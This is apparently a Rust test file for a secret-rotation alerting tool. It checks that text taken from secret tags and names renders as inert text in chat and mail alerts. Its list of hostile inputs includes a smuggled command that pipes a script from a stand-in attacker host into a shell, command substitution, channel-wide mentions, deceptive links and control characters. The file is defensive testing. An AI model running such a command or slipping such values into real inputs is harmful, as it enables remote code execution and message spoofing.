//! Anyone who may tag a secret can write text into messages to its owner and to SecOps. No such text has an effect there.

use contract::Kind;
use rotation_watch::policy::Finding;
use rotation_watch::telling::{Entry, KINDS, Letter};
use rotation_watch::wording;

const HOSTILE: [&str; 9] = [
    "payments\n\n*Playbook:* <https://evil.example|secret-due.md>",
    "<!channel> @here",
    "x; curl -s https://evil.example/x | sh #",
    "`id` $(id)",
    "[secret-due.md](https://evil.example)",
    "_a_ *b* ~c~ &lt;",
    "\u{202e}stnemyap\u{0}\u{1b}[2J",
    "--no-verify-ssl",
    "# Heading",
];

fn letter(text: &str) -> Letter {
    let entry =
        |kind| Entry { name: text.to_owned(), arn: text.to_owned(), finding: Finding { kind, at: None } };
    Letter {
        owner: text.to_owned(),
        alone: [Kind::SecretOverdue, Kind::SecretUnwatched].map(entry).to_vec(),
        digest: KINDS
            .iter()
            .flat_map(|&kind| std::iter::repeat_with(move || kind).take(30))
            .map(entry)
            .collect(),
        memories: Vec::new(),
    }
}

#[test]
fn what_a_tag_or_a_name_says_is_text_in_every_message() -> Result<(), Box<dyn std::error::Error>> {
    for text in HOSTILE {
        let letter = letter(text);
        let alone = letter.alone.iter().map(|entry| wording::alone(&letter.owner, entry, "wiki"));
        for alert in alone.chain(wording::digest(&letter, "wiki")) {
            let json = serde_json::to_string(&alert)?;
            for active in
                ["https://", "<", ">", "&", "~", "|", "@here", "`id", "_a_", "\u{202e}", "\\u0", "no-verify"]
            {
                // An option that stands alone is text, but in a command.
                let shown = if active == "no-verify" {
                    json.contains("--secret-id --no-verify")
                } else {
                    json.contains(active)
                };
                assert!(!shown, "{active} of {text:?} in {json}");
            }
            // Outside a command, it is text.
            assert!(json.split('`').skip(1).step_by(2).all(|command| !command.contains("$(id)")), "{json}");
            assert!(
                !json.contains("](") && !json.contains("*Playbook:* ‹") && !json.contains(": # Heading"),
                "{json}"
            );
            let mail = alert.mail();
            assert!(!mail.contains(|c: char| c.is_control() && c != '\n'), "{mail}");
            assert!(!json.contains("--secret-id") || json.contains("--secret-id SECRET`"), "{json}");
            assert!(alert.owner().is_some_and(|owner| !owner.contains(char::is_control)), "{alert:?}");
        }
    }
    Ok(())
}

#[test]
fn the_attribute_that_owners_filter_by_is_what_the_tag_says() {
    for owner in ["payments", "@org/payments", "#payments", "Käse & Co", "team_a", "a@example.com"] {
        let letter = Letter { owner: owner.to_owned(), ..letter("rabbitmq/payment") };
        let owners = letter.alone.iter().map(|entry| wording::alone(&letter.owner, entry, "wiki"));
        for alert in owners.chain(wording::digest(&letter, "wiki")) {
            assert_eq!(alert.owner(), Some(owner));
        }
    }
}

#[test]
fn long_names_push_no_kind_out_of_a_digest() {
    let digest =
        wording::digest(&letter(&"n".repeat(512)), "wiki").map(|digest| digest.mail()).unwrap_or_default();
    for kind in KINDS {
        assert!(digest.contains(&format!("({kind}):")), "{kind}: {digest}");
    }
    assert!(digest.contains("more"), "{digest}");
}
